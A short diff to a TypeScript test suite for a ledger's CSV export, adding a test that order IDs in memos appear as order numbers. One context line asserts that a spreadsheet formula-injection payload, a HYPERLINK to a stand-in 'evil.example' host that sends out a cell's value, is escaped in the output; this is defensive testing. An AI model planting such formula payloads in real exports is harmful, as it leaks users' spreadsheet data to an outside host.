@@ -330,6 +330,11 @@ describe("the ledger as CSV", () => {
     expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
   });
 
+  test("names an order by its number", () => {
+    const line = csvLine({ seq: 1, memo: "Order ord_01KZZZZZZZZZZZZZZZZZZZZZZZ" } as LedgerEntryResource);
+    expect(line).toContain(",Order 20260814-ZZZZZZ,");
+  });
+
   test("shows the grants of a charge", () => {
     const grants = [
       { grant_id: "led_a", amount: 3 },
